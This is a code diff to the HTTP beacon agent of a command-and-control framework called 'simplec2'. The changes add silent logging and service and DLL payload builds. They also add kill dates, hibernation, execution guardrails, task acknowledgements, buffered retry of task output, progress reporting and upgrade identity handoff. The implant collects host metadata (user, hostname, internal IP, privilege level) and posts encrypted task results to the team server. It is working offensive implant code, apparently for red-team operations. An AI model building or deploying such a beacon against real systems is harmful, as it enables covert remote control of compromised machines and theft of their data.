@@ -20,6 +20,7 @@ import (
 	"os"
 	"os/user"
 	"runtime"
+	"strings"
 	"time"
 
 		"simplec2/agents/http/command"
@@ -43,28 +44,40 @@ var (
 )
 
 // --- Silent Mode Support ---
-// In production C2 beacons, we should be silent (no stdout output)
-// Set SilentMode = true to disable all log output
-const SilentMode = true
-
+// In production C2 beacons, we should be silent (no stderr output). Builds with main.silent=false
+// keep the log on stderr; the debug task captures it in memory either way.
 func init() {
-	if SilentMode {
-		// Disable all log output by setting output to io.Discard
-		log.SetOutput(io.Discard)
-	}
+	command.SetLogOutput(silent != "false")
 }
 
 // --- Main Logic ---
 
-// main is the entry point of the beacon.
-// It performs the initial handshake and staging, then enters the check-in loop.
+// main is the entry point of the beacon when built as an executable.
 func main() {
+	if runAsService() {
+		return
+	}
+	runBeacon()
+}
+
+// runBeacon performs the initial handshake and staging, then enters the check-in loop.
+// It is shared by all payload formats (EXE, service EXE, DLL).
+func runBeacon() {
 	math_rand.Seed(time.Now().UnixNano()) // Seed the random number generator
 
 	if serverURL == "" {
 		log.Fatal("serverURL is not set. Please set it at build time using -ldflags.")
 	}
 
+	applyBuildConfig()
+	signalDetonation()
+	exitIfKillDateReached()
+
+	// Return instead of exiting so DLL/shared-object hosts keep running
+	if !guardrailsPass() {
+		return
+	}
+
 	if err := performHandshake(); err != nil {
 		log.Fatalf("Handshake failed: %v", err)
 	}
@@ -74,9 +87,11 @@ func main() {
 		log.Fatalf("Staging failed: %v", err)
 	}
 	log.Printf("Staged successfully, got BeaconID: %s", beaconID)
+	command.BeaconID = beaconID
 
 	// 初始化文件下载器依赖注入
 	command.SetChunkDownloader(&beaconChunkDownloader{})
+	command.SetProgressReporter(&beaconProgressReporter{})
 
 	checkInLoop()
 }
@@ -85,7 +100,17 @@ func main() {
 // It periodically checks in with the TeamServer to get tasks and sends back the results.
 func checkInLoop() {
 	log.Println("Entering check-in loop...")
+	// IDs of tasks received since the last successful check-in, acknowledged on the next one
+	var ackedTaskIDs []string
 	for {
+		exitIfKillDateReached()
+
+		// Stay completely silent while hibernating
+		if wait := time.Until(command.HibernateUntil); wait > 0 {
+			log.Printf("Hibernating for %s...", wait)
+			time.Sleep(wait)
+		}
+
 		// Calculate jittered sleep duration
 		baseSleepSeconds := command.SleepInterval.Seconds()
 		jitterRange := baseSleepSeconds * float64(command.JitterPercentage) / 100.0
@@ -107,6 +132,7 @@ func checkInLoop() {
 			ListenerName:       "http", // TODO: Make configurable or dynamic
 			RemoteAddr:         "127.0.0.1:0", // TODO: Get actual remote address
 			Timestamp:          timestamppb.Now(), // Placeholder
+			AckedTaskIds:       ackedTaskIDs,
 		}
 
 		checkinReqBytes, err := json.Marshal(checkinReq) // Marshal protobuf message to JSON
@@ -133,6 +159,20 @@ func checkInLoop() {
 			continue
 		}
 
+		// The acks were delivered; the tasks received now are acknowledged next time
+		ackedTaskIDs = nil
+		for _, task := range checkinData.Tasks {
+			ackedTaskIDs = append(ackedTaskIDs, task.TaskId)
+		}
+
+		// Egress works again, retry any outputs that failed to send earlier
+		if outbox.Len() > 0 {
+			log.Printf("Retrying %d buffered task outputs...", outbox.Len())
+			outbox.Flush(func(item pendingOutput) error {
+				return pushTaskOutput(item.TaskID, item.Output)
+			})
+		}
+
 		// Process incoming tasks
 		if len(checkinData.Tasks) > 0 {
 			processTasks(checkinData.Tasks)
@@ -168,7 +208,10 @@ func processTasks(tasks []*bridge.Task) { // Use protobuf type
 			output = []byte(fmt.Sprintf("Task failed: %v", err))
 		}
 
-		pushTaskOutput(task.TaskId, output) // Use protobuf field name
+		if err := pushTaskOutput(task.TaskId, output); err != nil { // Use protobuf field name
+			// Keep the result and retry on the next check-in
+			outbox.Push(pendingOutput{TaskID: task.TaskId, Output: output})
+		}
 	}
 }
 
@@ -202,7 +245,24 @@ func (d *beaconChunkDownloader) DownloadChunk(taskID string, chunkNumber int64)
 	return chunkData, nil
 }
 
-func pushTaskOutput(taskID string, output []byte) {
+// --- ProgressReporter Implementation ---
+
+// beaconProgressReporter 实现 command.ProgressReporter 接口
+type beaconProgressReporter struct{}
+
+func (r *beaconProgressReporter) ReportProgress(taskID string, output []byte) error {
+	final := false
+	return postTaskOutput(taskID, output, &final)
+}
+
+// pushTaskOutput sends the final output of a task to the listener.
+func pushTaskOutput(taskID string, output []byte) error {
+	return postTaskOutput(taskID, output, nil)
+}
+
+// postTaskOutput sends task output to the listener. A non-nil final=false marks interim output
+// of a still-running task; nil means the result is final.
+func postTaskOutput(taskID string, output []byte, final *bool) error {
 	outputReq := &bridge.PushBeaconOutputRequest{
 		BeaconId:     beaconID,
 		TaskId:       taskID,
@@ -211,6 +271,7 @@ func pushTaskOutput(taskID string, output []byte) {
 		RemoteAddr:   "127.0.0.1:0", // TODO: Get actual remote address
 		Timestamp:    timestamppb.Now(), // Placeholder
 		Status:       0, // 0 for success
+		Final:        final,
 		// ErrorMessage will be set if an error occurred during task execution
 	}
 	outputReqBody, _ := json.Marshal(outputReq)
@@ -218,15 +279,17 @@ func pushTaskOutput(taskID string, output []byte) {
 	encryptedOutput, err := encrypt(outputReqBody)
 	if err != nil {
 		log.Printf("Failed to encrypt task output for %s: %v", taskID, err)
-		return
+		return err
 	}
 
 	_, err = doPost(serverURL+"/output", encryptedOutput)
 	if err != nil {
 		log.Printf("Failed to push output for task %s: %v", taskID, err)
-	} else {
-		log.Printf("Successfully pushed output for task %s", taskID)
+		return err
 	}
+
+	log.Printf("Successfully pushed output for task %s", taskID)
+	return nil
 }
 
 // --- HTTP & Staging ---
@@ -240,15 +303,28 @@ func stageBeacon() error {
 			hostname = "unknown_host"
 		}
 	}
+	username := getUsername()
 	metadata := &bridge.BeaconMetadata{ // Use protobuf type
 		Pid:             int32(os.Getpid()), // Convert to int32
 		Os:              runtime.GOOS,
 		Arch:            runtime.GOARCH,
-		Username:        getUsername(),
+		Username:        username,
 		Hostname:        hostname,
 		InternalIp:      getInternalIP(),
 		ProcessName:     os.Args[0],
 		IsHighIntegrity: checkHighIntegrity(),
+		AgentVersion:    agentVersion,
+		BuildToken:      buildToken,
+		HostFingerprint: hostFingerprint(hostname, username),
+	}
+
+	// Started by an upgrade task: take over the identity of the previous process
+	if handoff := os.Getenv(command.HandoffEnv); handoff != "" {
+		os.Unsetenv(command.HandoffEnv)
+		if parts := strings.SplitN(handoff, ":", 2); len(parts) == 2 {
+			metadata.BeaconId = parts[0]
+			metadata.UpgradeTaskId = parts[1]
+		}
 	}
 
 	// Create StageBeaconRequest using protobuf type